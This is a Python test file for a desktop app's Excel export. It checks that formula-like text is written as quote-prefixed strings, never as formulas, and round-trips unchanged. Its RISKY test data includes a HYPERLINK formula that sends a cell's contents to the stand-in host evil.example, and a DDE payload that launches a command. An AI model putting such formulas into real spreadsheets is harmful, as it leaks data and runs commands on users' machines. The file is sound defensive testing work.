"""Exported text never becomes a formula and comes back unchanged."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

from openpyxl import Workbook, load_workbook

from desktop.models import Account
from desktop.services.excel.full_export import export_everything
from desktop.services.xlsx_guard import read_workbook
from desktop.services.xlsx_write import set_cell, write_cell

RISKY = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=tab",
    "=cmd|' /C calc'!A0",
]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_write_only_export_has_no_formulas_and_round_trips(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    for text in RISKY:
        sheet.append([write_cell(sheet, text)])
    sheet.append(
        [
            write_cell(sheet, "13812345678"),
            write_cell(sheet, "91320100MA1XYZ1234"),
            write_cell(sheet, Decimal("12800000.50")),
            write_cell(sheet, date(2026, 3, 8)),
            write_cell(sheet, "备注\x0b第二行"),
        ]
    )
    book.save(path)
    assert "<f>" not in _sheet_xml(path)
    with read_workbook(path) as workbook:
        rows = [list(row) for row in workbook["Data"].iter_rows(values_only=True)]
    assert [row[0] for row in rows[: len(RISKY)]] == RISKY
    phone, credit_code, amount, day, note = rows[-1]
    assert (phone, credit_code) == ("13812345678", "91320100MA1XYZ1234")
    assert amount == 12800000.5 and day.date() == date(2026, 3, 8)
    assert note == "备注第二行"


def test_normal_workbook_cells_are_safe_too(tmp_path: Path) -> None:
    path = tmp_path / "normal.xlsx"
    book = Workbook()
    for row, text in enumerate(RISKY, start=1):
        assert set_cell(book.active, row, 1, text).data_type == "s"
    assert set_cell(book.active, 20, 1, "bell\x07").value == "bell"
    book.save(path)
    assert "<f>" not in _sheet_xml(path)


MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# Each start Excel could evaluate, then text that starts safely.
PREFIXED = ["=1+1", "+1", "-1", "@SUM(1)", "\tx", "\rx", "\nx"]
PLAIN = ["a=1", "13812345678", "备注", " =1"]


def _quote_prefixed(path: Path) -> list[bool]:
    """Whether each cell of column A, top to bottom, is a string with Excel's quote prefix,
    read from the file's XML (the prefix is a flag of the cell's style)."""
    with zipfile.ZipFile(path) as archive:
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    formats = styles.find(f"{MAIN}cellXfs")
    assert formats is not None
    prefixed = [xf.get("quotePrefix") in ("1", "true") for xf in formats]
    cells = [c for c in sheet.iter(f"{MAIN}c") if c.get("r", "").startswith("A")]
    assert all(c.get("t") in ("s", "inlineStr") and c.find(f"{MAIN}f") is None for c in cells)
    return [prefixed[int(c.get("s", "0"))] for c in cells]


def test_formula_like_text_is_written_with_the_quote_prefix(tmp_path: Path) -> None:
    expected = [True] * len(PREFIXED) + [False] * len(PLAIN)
    streamed = tmp_path / "streamed.xlsx"
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    for text in PREFIXED + PLAIN:
        sheet.append([write_cell(sheet, text)])
    book.save(streamed)
    assert _quote_prefixed(streamed) == expected
    normal = tmp_path / "normal.xlsx"
    book = Workbook()
    for row, text in enumerate(PREFIXED + PLAIN, start=1):
        set_cell(book.active, row, 1, text)
    book.save(normal)
    assert _quote_prefixed(normal) == expected


def test_the_full_export_quote_prefixes_formula_like_text(db, tmp_path: Path) -> None:
    with db.session() as s:
        s.add(Account(name="=1+1", region="@SUM(1)", notes="-2"))
        s.add(Account(name="a=1", region="+1", notes="plain"))
    path = tmp_path / "full.xlsx"
    with db.read() as s:
        export_everything(s.connection(), path, datetime(2026, 11, 23), include_personal=True)
    book = load_workbook(path)
    rows = book["account"].iter_rows(values_only=False)
    columns = [c.value for c in next(rows)]
    cells = {(row[columns.index("name")].value, name): row[columns.index(name)] for row in rows
             for name in ("name", "region", "notes")}  # fmt: skip
    shown = {key: (cell.value, cell.data_type, cell.quotePrefix) for key, cell in cells.items()}
    assert shown == {
        ("=1+1", "name"): ("=1+1", "s", True),
        ("=1+1", "region"): ("@SUM(1)", "s", True),
        ("=1+1", "notes"): ("-2", "s", True),
        ("a=1", "name"): ("a=1", "s", False),
        ("a=1", "region"): ("+1", "s", True),
        ("a=1", "notes"): ("plain", "s", False),
    }
